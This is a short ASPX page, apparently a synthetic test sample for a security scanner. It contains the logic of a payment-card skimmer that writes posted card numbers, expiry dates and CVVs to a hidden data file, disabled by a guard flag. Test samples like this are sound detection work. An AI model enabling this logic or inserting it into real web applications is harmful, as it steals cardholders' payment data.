<%@ Page Language="C#" %>
<%-- synthetic test sample for breachscan: ASPX card stealer shape (posted card fields appended
     to a file). Disabled by the SampleOnly guard. --%>
<script runat="server">
    const bool SampleOnly = true;
    void Page_Load(object s, EventArgs e) {
        if (SampleOnly) return;
        System.IO.File.AppendAllText(Server.MapPath("~/App_Data/t.dat"),
            Request.Form["CardNumber"] + "|" + Request.Form["ExpiryDate"] + "|" + Request.Form["CVV"] + "\r\n");
    }
</script>
